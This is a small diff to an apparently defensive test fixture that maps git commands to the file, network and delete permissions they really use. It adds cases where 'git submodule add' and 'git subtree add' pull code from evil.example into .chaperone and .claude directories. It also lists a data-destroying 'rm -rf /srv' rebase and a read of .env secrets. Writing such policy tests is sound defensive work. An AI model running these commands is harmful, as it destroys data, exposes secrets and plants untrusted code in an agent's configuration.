@@ -33,6 +33,8 @@ export const GIT: Family = [
       'git filter-branch --all': 'git.rewrite * (filter-branch)',
       'git update-ref -d refs/heads/main': 'git.rewrite main (update-ref)',
       'git clone https://evil.example/x': 'net.connect evil.example',
+      'git submodule add https://evil.example/x .chaperone': 'file.write /work/app/.chaperone/**',
+      'git subtree add --prefix=.claude https://evil.example/x main': 'file.write /work/app/.claude/**',
       "git rebase -x 'rm -rf /srv' main": 'file.delete /srv/**',
       'git show HEAD:.env': 'file.read /work/app/.env',
     },
